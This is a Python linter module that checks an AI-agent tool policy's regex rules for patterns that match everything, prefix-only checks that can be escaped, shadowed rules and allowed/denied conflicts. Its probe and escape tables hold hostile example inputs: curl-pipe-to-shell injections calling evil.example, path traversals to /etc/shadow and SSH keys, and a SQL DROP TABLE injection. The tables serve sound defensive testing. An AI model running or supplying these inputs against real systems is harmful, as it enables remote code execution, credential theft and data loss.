"""Warnings about a policy that loads but may not do what its author meant (``policy check``).

Pure: a loaded ``Policy`` in, findings out. Claims about a pattern are tested on the compiled
RE2 program itself (an example is shown only when the pattern really accepts it).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any, Final

from aip.shared.policy.model import Action, ArgPattern, Policy, ToolRule

# Values no real constraint accepts all of: if a pattern full-matches every one, it is a no-op.
_PROBES: Final = (
    b"x",
    b"/etc/shadow",
    b"../../../root/.ssh/id_rsa",
    b"SELECT 1; DROP TABLE users",
    b"$(curl https://evil.example | sh)",
    b"https://evil.example/?q=1",
    b"42",
    "\u00fcnic\u00f8de \u2603".encode(),
    b"y" * 5000,  # so a length bound like .{0,100} counts as a constraint
)
# Argument names whose value is a path, a query, a command line or a URL: a trailing `.*`
# there is a prefix check that the rest of the value can escape (DESIGN §4.9).
_RISKY_NAME: Final = re.compile(r"path|file|dir|query|sql|command|cmd|url|uri", re.IGNORECASE)
_UNBOUNDED_TAIL: Final = re.compile(r"\.[*+]\)*\$?\)*\Z")
_ESCAPES: Final = {
    "path": "../../etc/shadow",
    "file": "../../etc/shadow",
    "dir": "../../etc",
    "query": "1; DROP TABLE users",
    "sql": "1; DROP TABLE users",
    "command": "x; curl https://evil.example | sh",
    "cmd": "x; curl https://evil.example | sh",
    "url": "x@evil.example/",
    "uri": "x@evil.example/",
}


@dataclass(frozen=True, slots=True)
class Finding:
    line: int
    code: str  # stable identifier for scripts
    severity: str  # warning | info
    message: str


def lint(policy: Policy) -> list[Finding]:
    findings: list[Finding] = []
    for rule in policy.tool_rules:
        findings += _pattern_findings(rule)
    findings += _shadowed(policy.tool_rules)
    findings += _denied_conflicts(policy)
    return sorted(findings, key=lambda f: (f.line, f.code))


def matches_everything(regex: Any) -> bool:
    return all(regex.fullmatch(p) is not None for p in _PROBES)


def _pattern_findings(rule: ToolRule) -> list[Finding]:
    found = []
    for arg in rule.allow_args:
        if matches_everything(arg.regex):
            found.append(
                Finding(
                    rule.line,
                    "matches-everything",
                    "warning",
                    f"{rule.label}: allow_args.{arg.name} {arg.pattern!r} matches any value, so "
                    "it constrains nothing (full-match semantics: anchors are implied)",
                )
            )
        elif rule.action is Action.ALLOW and _RISKY_NAME.search(arg.name):
            finding = _unbounded_tail(rule, arg)
            if finding is not None:
                found.append(finding)
    return found


def _unbounded_tail(rule: ToolRule, arg: ArgPattern) -> Finding | None:
    if not _UNBOUNDED_TAIL.search(arg.pattern):
        return None
    message = (
        f"{rule.label}: allow_args.{arg.name} {arg.pattern!r} ends in an unbounded .*: it checks "
        f"a prefix only (a regex is not a path, SQL or shell parser)"
    )
    example = _escape_example(arg)
    if example is not None:
        message += f"; it also allows {example!r}"
    return Finding(rule.line, "unbounded-tail", "warning", message)


def _escape_example(arg: ArgPattern) -> str | None:
    """A value the pattern accepts that leaves the directory / statement / command it names."""
    kind = _RISKY_NAME.search(arg.name)
    if kind is None:
        return None
    prefix = _literal_prefix(arg.pattern)
    candidate = prefix + _ESCAPES[kind.group(0).lower()]
    if arg.regex.fullmatch(candidate.encode()) is None:
        return None
    return candidate


def _literal_prefix(pattern: str) -> str:
    """The literal text a pattern starts with: ``^/tmp/.*$`` -> ``/tmp/``."""
    out = []
    i = 1 if pattern.startswith("^") else 0
    while i < len(pattern):
        ch = pattern[i]
        if ch == "\\" and i + 1 < len(pattern) and not pattern[i + 1].isalnum():
            out.append(pattern[i + 1])
            i += 2
            continue
        if ch in ".*+?()[]{}|^$\\":
            break
        out.append(ch)
        i += 1
    # A quantifier after the last literal makes it optional or repeated: drop that character.
    if i < len(pattern) and pattern[i] in "*?{" and out:
        out.pop()
    return "".join(out)


def _shadowed(rules: tuple[ToolRule, ...]) -> list[Finding]:
    found = []
    for j, later in enumerate(rules):
        later_args = {(a.name, a.pattern) for a in later.allow_args}
        for earlier in rules[:j]:
            if earlier.tool != later.tool:
                continue
            # Every call `later` matches also matches `earlier` when earlier's conditions are
            # a subset of later's (no conditions at all, or the same ones): first match wins.
            if {(a.name, a.pattern) for a in earlier.allow_args} <= later_args:
                found.append(
                    Finding(
                        later.line,
                        "shadowed-rule",
                        "warning",
                        f"{later.label} never decides: {earlier.label} (line {earlier.line}) "
                        "matches every call it matches, and the first matching rule wins",
                    )
                )
                break
    return found


def _denied_conflicts(policy: Policy) -> list[Finding]:
    found = []
    for rule in policy.tool_rules:
        if rule.tool in policy.denied_tools:
            what = "no human is ever asked" if rule.action is Action.ASK else "it never applies"
            found.append(
                Finding(
                    rule.line,
                    "rule-on-denied-tool",
                    "warning",
                    f"{rule.label}: {rule.tool_raw!r} is in denied_tools, which wins: {what}",
                )
            )
    seen: set[str] = set()
    for rule in policy.tool_rules:
        if rule.tool in seen or rule.tool in policy.denied_tools:
            continue
        seen.add(rule.tool)
        if rule.tool not in policy.allowed_tools:
            found.append(
                Finding(
                    rule.line,
                    "rules-without-allowed-tools",
                    "info",
                    f"{rule.tool_raw!r} has rules but is not in allowed_tools: its rules decide; "
                    "a call that matches none of them is blocked (argument_invalid)",
                )
            )
    for tool in sorted(policy.allowed_tools & policy.denied_tools):
        found.append(
            Finding(
                0,
                "allowed-and-denied",
                "warning",
                f"{tool!r} is in both allowed_tools and denied_tools: it is denied",
            )
        )
    return found
